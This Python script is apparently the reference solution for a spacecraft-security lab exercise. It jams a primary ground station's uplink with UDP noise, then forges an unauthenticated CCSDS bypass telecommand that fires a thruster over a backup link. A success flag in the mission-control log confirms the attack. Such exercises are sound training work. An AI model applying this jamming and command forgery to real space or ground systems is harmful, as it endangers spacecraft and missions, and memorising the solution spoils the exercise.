"""Reference attack for backup-station: run on the attacker workstation, as the student.

1. Read the station handover notes (~/stations.txt): the spacecraft id, and the backup
   station's plaintext SA (a security header with a SPI and a sequence number, no MAC).
2. Jam the primary station's radio path: noise (random bursts that are not frames) to the
   rf-link's uplink input, UDP 5100, faster than its receiver tolerates, and meanwhile
   send a PING through mission control: the primary's frames are lost to the jam (the
   rf-link counts them) and the PING never completes.
3. Forge a type-BD (bypass) TC frame on the plaintext SPI carrying 8,1 THRUSTER_FIRE
   and transmit it on the backup's radio path (backup-link, UDP 5100): nothing checks it.
4. Read mission control's event log (the student's own account): the spacecraft reports
   UNAUTHENTICATED_COMMAND, quoting a reference: the evidence for the report.

Exit status 0 when the frame executed (the event quotes the reference), 2 when the notes
cannot be read, 3 when no UNAUTHENTICATED_COMMAND event came.
"""

from __future__ import annotations

import os
import re
import socket
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from scapy.packet import Raw

from labctl.protocols.crc import crc16_ok
from labctl.protocols.layers import (
    PusTc,
    SDLSHeader,
    SpacePacket,
    TCFrame,
    TCSegment,
    configure_tc,
    register_sa,
)
from labctl.protocols.sdls import SecurityAssociation, ServiceType
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

NOTES = Path("/home/student/stations.txt")
PRIMARY = (wiring.RF_LINK, wiring.UPLINK_IN)
BACKUP = ("backup-link", wiring.UPLINK_IN)
APID = 0x064
THRUSTER_FIRE = 4
DURATION_MS = 1500
NOISE_RATE = 400  # bursts a second: twice what the primary's receiver tolerates
NOISE_S = 6.0


def read_notes(text: str) -> tuple[int, int] | None:
    """(SCID, plaintext SPI) from the handover notes."""
    scid = re.search(r"Spacecraft (\d+) \(SCID\)", text)
    spi = re.search(r"plaintext SA, SPI (\d+)", text)
    return (int(scid[1]), int(spi[1])) if scid and spi else None


def noise() -> bytes:
    while True:
        data = os.urandom(16 + os.urandom(1)[0] % 48)
        if not crc16_ok(data):  # never a frame by accident
            return data


def jam(seconds: float) -> int:
    """Noise to the primary's radio path for ``seconds``; the bursts sent."""
    sent, start = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        while (elapsed := time.monotonic() - start) < seconds:
            while sent < elapsed * NOISE_RATE:
                sock.sendto(noise(), PRIMARY)
                sent += 1
            time.sleep(0.01)
    return sent


def forged_frame(scid: int, spi: int, arsn: int) -> bytes:
    # The dissector needs the SA's field lengths: SPI 2, sequence number 4, no IV, no MAC.
    register_sa(SecurityAssociation(spi, ServiceType.PLAINTEXT, iv_len=0, sn_len=4, mac_len=0))
    configure_tc(0, sdls=True)
    return bytes(
        TCFrame(bypass=1, ctrl_cmd=0, scid=scid, vcid=0, seq=0)
        / TCSegment(seq_flags=3, map_id=0)
        / SDLSHeader(spi=spi, sn=arsn)
        / SpacePacket(packet_type=1, sec_header_flag=1, apid=APID, seq_flags=3, seq_count=1)
        / PusTc(service=8, subtype=1, source_id=0)
        / Raw(struct.pack(">HH", THRUSTER_FIRE, DURATION_MS))
    )


def main() -> int:
    try:
        found = read_notes(NOTES.read_text())
    except OSError as exc:
        print(f"cannot read {NOTES}: {exc}")
        return 2
    if found is None:
        print(f"{NOTES}: no SCID or no plaintext SA listed")
        return 2
    scid, spi = found
    try:
        mc = MissionControl.from_file()
        before = mc.last_event_id()
    except (OSError, MissionControlError) as exc:
        print(f"mission control: {exc}")
        mc, before = None, 0
    with ThreadPoolExecutor(max_workers=1) as pool:
        noise_sent = pool.submit(jam, NOISE_S)
        time.sleep(1.5)  # the receiver is drowned by now
        if mc is not None:
            sent = mc.request("POST", "/api/commands", {"name": "PING", "args": {}})
            print(f"PING sent through mission control while jamming (command {sent['id']})")
        bursts = noise_sent.result()
    print(f"jammed the primary's radio path {PRIMARY}: {bursts} noise bursts in {NOISE_S:g} s")
    if mc is not None:
        row = mc.request("GET", f"/api/commands/sent/{sent['id']}")
        print(f"the PING sent during the jam: {row['status']}")
    raw = forged_frame(scid, spi, arsn=1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(raw, BACKUP)
    print(f"sent forged THRUSTER_FIRE on the backup's path: BD frame SCID {scid}, SPI {spi}")
    text = mc.event_text("UNAUTHENTICATED_COMMAND", before) if mc is not None else None
    quoted = re.search(r"UNAUTH\{[0-9a-f]+\}", text or "")
    if quoted is None:
        print("no UNAUTHENTICATED_COMMAND event in mission control's log")
        return 3
    print(f"the spacecraft reported it: UNAUTHENTICATED_COMMAND quoting {quoted.group(0)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
